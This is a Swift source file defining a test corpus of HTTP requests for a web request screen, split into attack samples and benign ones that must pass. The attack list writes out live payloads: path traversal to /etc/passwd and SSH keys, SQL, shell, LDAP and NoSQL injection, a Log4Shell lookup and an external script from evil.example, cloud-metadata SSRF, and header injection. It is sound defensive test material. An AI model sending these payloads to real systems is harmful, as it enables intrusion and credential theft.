/// A small corpus of requests, by which a running program tries out its own screen.
///
/// It is a sample of what the tests hold the rules against, and of every family of attacks.
package enum ThreatCorpus {
    /// What attackers send.
    package static let attacks = requests(in: attackLines)
    /// What everybody sends, and of which nothing may be taken for an attack.
    package static let ordinary = requests(in: ordinaryLines)

    /// A method, a target and header fields in each line.
    private static func requests(in text: String) -> [HTTPRequest] {
        text.split(separator: "\n").map { line in
            let parts = line.split(separator: "¦").map(\.trimmingSpaces)
            let target = parts[1].split(separator: "?", maxSplits: 1, omittingEmptySubsequences: false)
            var fields: HTTPFields = ["Host": "localhost"]
            for field in parts.dropFirst(2) {
                let pair = field.split(separator: ":", maxSplits: 1)
                fields.append(String(pair[0]), pair[1].trimmingSpaces)
            }
            return HTTPRequest(
                parts[0], path: String(target[0]), query: target.count > 1 ? String(target[1]) : nil,
                fields: fields)
        }
    }

    private static let attackLines = #"""
        GET ¦ /../../etc/passwd
        GET ¦ /%252e%252e%252f%252e%252e%252fetc%252fpasswd
        GET ¦ /..;/..;/manager/html
        GET ¦ /..%ef%bc%8f..%ef%bc%8fetc/passwd
        GET ¦ /.ssh/id_rsa
        GET ¦ /cgi-bin/.%2e/.%2e/.%2e/etc/passwd
        GET ¦ /api/v1/tasks?file=file:///etc/passwd
        GET ¦ /api/v1/tasks/01890a5d%00.json
        GET ¦ /docs%00
        GET ¦ /api/v1/tasks?status=queued%00
        GET ¦ /api/v1/clips/a.mp4%2500.jpg
        GET ¦ /api/v1/tasks?cursor=1%27+or+%271%27%3D%271
        GET ¦ /api/v1/tasks?limit=admin'--
        GET ¦ /api/v1/tasks?status=%22+or+1%3D1--
        GET ¦ /api/v1/tasks/'%20and%20'a'='a
        GET ¦ /api/v1/tasks?cursor=1+uNiOn%2F**%2FsElEcT%2F**%2F1%2C2
        GET ¦ /api/v1/tasks?limit=1'%3B+insert+into+users+values('x','y')--
        GET ¦ /api/v1/tasks?status=1%3B+waitfor+delay+%270%3A0%3A10%27
        GET ¦ /api/v1/tasks/1%20or%20pg_sleep(5)--
        GET ¦ /api/v1/tasks?cursor=1%27+group+by+1%2C2+having+1%3D1--
        GET ¦ /api/v1/tasks?status=1%27+into+outfile+%27%2Ftmp%2Fx%27--
        GET ¦ /api/v1/tasks?cursor=1+or+%27x%27%3D%27x%27
        GET ¦ /api/v1/tasks?limit='xor(if(now()%3Dsysdate(),sleep(6),0))xor'
        GET ¦ /api/v1/tasks?status=%27+or+2%3E1--
        GET ¦ /api/v1/tasks?host=;cat+/etc/passwd
        GET ¦ /api/v1/tasks?file=%24%28id%29
        GET ¦ /api/v1/tasks?id=a%3Bsleep+10
        GET ¦ /api/v1/tasks?cmd=%26%26+type+c:%5Cwindows%5Cwin.ini
        GET ¦ /api/v1/tasks?host=x%3B%24%7BIFS%7Duname%24%7BIFS%7D-a
        GET ¦ /api/v1/tasks?file=%60sleep+5%60
        GET ¦ /api/v1/tasks?id=()+%7B+:;%7D;+echo+vulnerable
        GET ¦ /api/v1/tasks ¦ User-Agent: ${${lower:j}ndi:${lower:l}dap://evil.example/x}
        GET ¦ /api/v1/tasks?name=%24%7B7%2A7%7D
        GET ¦ /api/v1/tasks?url=http://169.254.169.254/latest/meta-data/
        GET ¦ /api/v1/tasks?cursor=%3Cscript%3Ealert(1)%3C/script%3E
        GET ¦ /api/v1/tasks?page=%3Csvg%2Fonload%3Dalert%281%29%3E
        GET ¦ /api/v1/tasks?id=%3Ca+href=%22javascript:alert(1)%22%3Ex%3C/a%3E
        GET ¦ /api/v1/tasks?lang=%3Cvideo%3E%3Csource+onerror%3Dalert%281%29%3E
        GET ¦ /api/v1/tasks?page=%26lt%3Bscript%26gt%3Balert%281%29%26lt%3B%2Fscript%26gt%3B
        GET ¦ /api/v1/tasks?cursor=%3Cbase+href=//evil.example/%3E
        GET ¦ /api/v1/tasks?page=%3Cscript+src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E
        GET ¦ /api/v1/tasks?id=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E
        GET ¦ /api/v1/tasks?user=*)(uid%3D*))(%7C(uid%3D*
        GET ¦ /api/v1/tasks?user=admin)(%26)
        GET ¦ /api/v1/tasks?user=(%7C(cn%3D*)(mail%3D*))
        GET ¦ /api/v1/tasks?user=x)(%7C(password%3D*)
        GET ¦ /api/v1/tasks?username[$ne]=x
        GET ¦ /api/v1/tasks?filter=%7B%22%24where%22%3A%22sleep%281000%29%22%7D
        GET ¦ /api/v1/tasks?q[$or][0][a]=1
        GET ¦ /api/v1/tasks?user[$exists]=true
        GET ¦ /api/v1/tasks?lang=queued%0D%0ASet-Cookie%3A%20a%3Db
        GET ¦ /api/v1/tasks?lang=x%0AX-Injected%3A%201
        GET ¦ /api/v1/tasks?lang=a%0D%0A%0D%0A%3Chtml%3E
        GET ¦ /api/v1/tasks?lang=x%0D%0AHTTP%2F1.1%20200%20OK
        GET ¦ / ¦ User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)
        GET ¦ / ¦ User-Agent: feroxbuster/2.10.0
        GET ¦ / ¦ User-Agent: Acunetix-Product
        GET ¦ / ¦ User-Agent: Havij
        GET ¦ /index.php
        GET ¦ /admin.asp
        GET ¦ /db.sqlite.bak
        GET ¦ /id.pem
        GET ¦ /struts/login.action
        GET ¦ /solr/admin/info/system
        """#

    private static let ordinaryLines = #"""
        GET ¦ /
        GET ¦ /health
        GET ¦ /metrics
        GET ¦ /sitemap.xml
        GET ¦ /.well-known/security.txt
        GET ¦ /api/v1/tasks
        GET ¦ /api/v1/tasks/01890a5d-ac96-774b-bcce-b302099a8057/clips/0192f3c1-77aa-7c3e-9d51-0a1b2c3d4e5f
        GET ¦ /api/v1/tasks/01890a5d-ac96-774b-bcce-b302099a8057/transcript?as=srt
        GET ¦ /api/v1/tasks/01890a5d-ac96-774b-bcce-b302099a8057/events
        GET ¦ /api/v1/tasks?limit=20
        GET ¦ /api/v1/tasks?cursor=MDE4OTBhNWQtYWM5Ni03NzRiLWJjY2UtYjMwMjA5OWE4MDU3
        GET ¦ /api/v1/jobs?limit=50
        GET ¦ /api/v1/users/me
        GET ¦ /api/v1/users/me/credits/entries?cursor=120
        GET ¦ /api/v1/users/me/sessions
        GET ¦ /api/v1/api-keys/0192f3c1-77aa-7c3e-9d51-0a1b2c3d4e5f
        GET ¦ /api/v1/admin/users?state=suspended&tier=premium
        GET ¦ /api/v1/admin/audit/export.csv
        GET ¦ /api/v1/admin/invitations?state=open
        GET ¦ /api/v1/fonts?family=League%20Spartan
        GET ¦ /api/v1/webhooks
        GET ¦ /downloads/My%20Talk%20%282026%29.mp4
        GET ¦ /downloads/app.js
        GET ¦ /downloads/release-1.2.tar.gz
        GET ¦ /downloads/%E6%97%A5%E6%9C%AC%E8%AA%9E.mp4
        GET ¦ /downloads/a+b.webm
        GET ¦ /downloads/C%23%20in%20depth.mp4
        GET ¦ /api/v1/tasks?fields=id,title,status
        GET ¦ /api/v1/tasks?filter%5Bstatus%5D=queued
        GET ¦ /api/v1/tasks?lang=pt-BR
        GET ¦ /?fbclid=IwAR0x-1_y&gclid=Cj0KCQ
        GET ¦ /?ref=producthunt
        GET ¦ /api/v1/tasks?title=Rock+%27n%27+roll
        GET ¦ /api/v1/tasks?tag=c%2B%2B
        GET ¦ /api/v1/tasks?tag=union
        GET ¦ /api/v1/tasks?price=%3E10
        GET ¦ /api/v1/tasks?range=1%2C5%3B9
        GET ¦ /api/v1/tasks?url=https%3A%2F%2Fwww.youtube.com%2Fwatch%3Fv%3DdQw4w9WgXcQ%26t%3D43s
        GET ¦ /api/v1/tasks?company=AT%26T
        GET ¦ /api/v1/tasks?note=1+or+2
        GET ¦ /api/v1/tasks?when=now()
        GET ¦ /api/v1/tasks?empty=&also=
        GET ¦ /api/v1/tasks ¦ User-Agent: Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16
        GET ¦ /api/v1/tasks ¦ User-Agent: Wget/1.21.3
        GET ¦ /api/v1/tasks ¦ User-Agent: Python-urllib/3.11
        GET ¦ /api/v1/tasks ¦ User-Agent: okhttp/4.12.0
        GET ¦ /api/v1/tasks ¦ User-Agent: axios/1.7.7
        GET ¦ /api/v1/tasks ¦ User-Agent: Deno/2.0.6
        GET ¦ /api/v1/tasks ¦ User-Agent: HTTPie/3.2.4
        GET ¦ /api/v1/tasks ¦ User-Agent: ELB-HealthChecker/2.0
        GET ¦ /api/v1/tasks ¦ User-Agent: Googlebot/2.1 (+http://www.google.com/bot.html)
        GET ¦ /api/v1/tasks ¦ User-Agent: Discordbot/2.0
        GET ¦ /api/v1/tasks ¦ User-Agent: Lavf/59.27.100
        GET ¦ /api/v1/tasks ¦ User-Agent: CFNetwork/1568.200.51 Darwin/24.1.0
        GET ¦ /api/v1/tasks ¦ User-Agent: GuzzleHttp/7
        GET ¦ /api/v1/tasks ¦ User-Agent: cutroom/0.1.0
        GET ¦ /api/v1/tasks ¦ User-Agent: k6/0.55.0 (https://k6.io/)
        GET ¦ /api/v1/tasks ¦ User-Agent: Home Assistant/2024.11.2 aiohttp/3.11.7
        GET ¦ /api/v1/tasks/01890a5d-ac96-774b-bcce-b302099a8057 ¦ Origin: https://app.example.org
        GET ¦ /api/v1/tasks/01890a5d-ac96-774b-bcce-b302099a8057 ¦ Cookie: name=O'Brien; city=S%C3%A3o%20Paulo
        """#
}
